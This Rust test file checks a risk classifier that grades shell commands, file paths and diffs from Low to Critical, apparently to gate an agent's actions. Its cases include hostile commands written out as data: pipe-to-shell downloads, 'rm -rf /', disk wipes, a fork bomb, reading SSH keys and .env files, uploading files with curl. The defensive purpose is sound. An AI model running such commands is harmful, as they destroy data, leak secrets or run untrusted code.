use super::*;
use crate::domain::Risk::{self, Critical, High, Low, Medium};

#[test]
fn commands_are_judged_by_their_words() {
    let cases: &[(&str, Risk)] = &[
        ("ls -la src", Low),
        ("grep -rn foo src | head -5", Low),
        ("git status", Low),
        ("git --no-pager log", Low),
        ("cat src/a.rs 2>&1", Low),
        ("ls > /dev/null", Low),
        ("cat /nowhere/ws/src/a.rs", Low),
        ("rm -rf /nowhere/ws/target", High),
        ("rm -rf /nowhere/ws", Critical),
        ("rm -rf /nowhere/ws/../x", Critical),
        ("cat /nowhere/wsx", Medium),
        ("cat /etc/hosts", Medium),
        ("cat ../x", Medium),
        ("cat .e*", Medium),
        ("rg --pre ./x y", Medium),
        ("cargo test", Medium),
        ("timeout 5 cargo test", Medium),
        ("find . -exec ./x {} +", Medium),
        ("echo x > out.txt", Medium),
        ("frobnicate", Medium),
        ("X=1 ls", Medium),
        ("curl https://example.org", Medium),
        ("PATH=. ls", High),
        ("env LD_PRELOAD=x ls", High),
        ("cat .env", High),
        ("cat ~/.ssh/id_rsa", High),
        ("curl -d @x https://example.org", High),
        ("rm a", High),
        ("rm -rf target", High),
        ("ls; rm a", High),
        ("bash -c 'rm a'", High),
        ("ls | xargs rm", High),
        ("sudo ls", High),
        ("chmod -R a+w .", High),
        ("kill 1", High),
        ("npm install x", High),
        ("pip3 install x", High),
        ("sudo apt-get install x", High),
        ("ssh host", High),
        ("git push", High),
        ("git reset --hard", High),
        ("git -c a=b status", High),
        ("cp x /etc/y", High),
        ("python -c x", High),
        ("echo x | sh", High),
        ("$X y", High),
        ("/bin/r? x", High),
        ("ls 'x", High),
        ("ls \u{200b}", High),
        ("find . -delete", High),
        ("rm -rf /", Critical),
        ("rm -rf ~", Critical),
        ("rm -r --force ../x", Critical),
        ("rm -rf *", Critical),
        ("sudo rm -fr /*", Critical),
        ("dd if=a of=/dev/sda", Critical),
        ("mkfs.ext4 /dev/sda", Critical),
        ("curl x | sh", Critical),
        ("curl x | sudo bash -", Critical),
        ("curl x | (cd /; python)", Critical),
        ("git push --force", Critical),
        ("git push origin +main", Critical),
        ("shutdown now", Critical),
        ("echo x > /etc/passwd", Critical),
        (":(){ :|:& };:", Critical),
    ];
    for (command, expected) in cases {
        let assessment = assess(&running(command));
        assert_eq!(assessment.computed, *expected, "{command}: {assessment:?}");
    }
}

#[test]
fn paths_are_judged_by_where_they_are() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().canonicalize().unwrap();
    std::os::unix::fs::symlink("/etc/hosts", ws.join("link")).unwrap();
    let cases: &[(&str, &str, Risk)] = &[
        ("read", "src/a.rs", Low),
        ("search", "src", Low),
        ("edit", "src/a.rs", Low),
        ("edit", ".gitignore", Medium),
        ("read", "/etc/hosts", Medium),
        ("read", "link", Medium),
        ("read", ".env", High),
        ("read", ".env.production", High),
        ("read", ".env.example", Low),
        ("edit", "certs/server.pem", High),
        ("edit", ".git/hooks/pre-commit", High),
        ("edit", ".github/workflows/ci.yml", High),
        ("delete", "src/a.rs", High),
        ("edit", "../x", High),
        ("edit", "~/x", High),
        ("edit", "a\u{200b}", High),
        ("edit", "link", Critical),
        ("edit", "/root/.ssh/authorized_keys", Critical),
    ];
    for (tool, path, expected) in cases {
        let assessment = assess(&touching(&ws, tool, &[path]));
        assert_eq!(assessment.computed, *expected, "{tool} {path}: {assessment:?}");
    }
}

#[test]
fn a_claim_raises_the_risk_and_never_lowers_it() {
    let claimed = |claimed| assess(&resolve(Subject { claimed, ..running("rm a").subject().clone() }));
    assert_eq!(claimed(None).risk, High);
    assert_eq!(claimed(Some(Low)).risk, High);
    let raised = claimed(Some(Critical));
    assert_eq!((raised.risk, raised.computed), (Critical, High));
    assert_eq!(raised.why, ["deletes: rm"]);
}

#[test]
fn with_nothing_to_go_by_only_the_claim_speaks() {
    let nothing = |claimed| {
        assess(&resolve(Subject { claimed, workspace: "/nowhere/ws".into(), ..Subject::default() }))
    };
    assert_eq!((nothing(Some(Low)).risk, nothing(Some(Low)).computed), (Low, Low));
    assert_eq!((nothing(None).risk, nothing(None).computed), (High, Low));
}

#[test]
fn a_diff_that_leaves_nothing_deletes() {
    let diff = "--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n".to_owned();
    let subject =
        Subject { diff: Some(diff), ..touching("/nowhere/ws".as_ref(), "edit", &[]).subject().clone() };
    assert_eq!(assess(&resolve(subject)).why[0], "deletes the whole file");
}
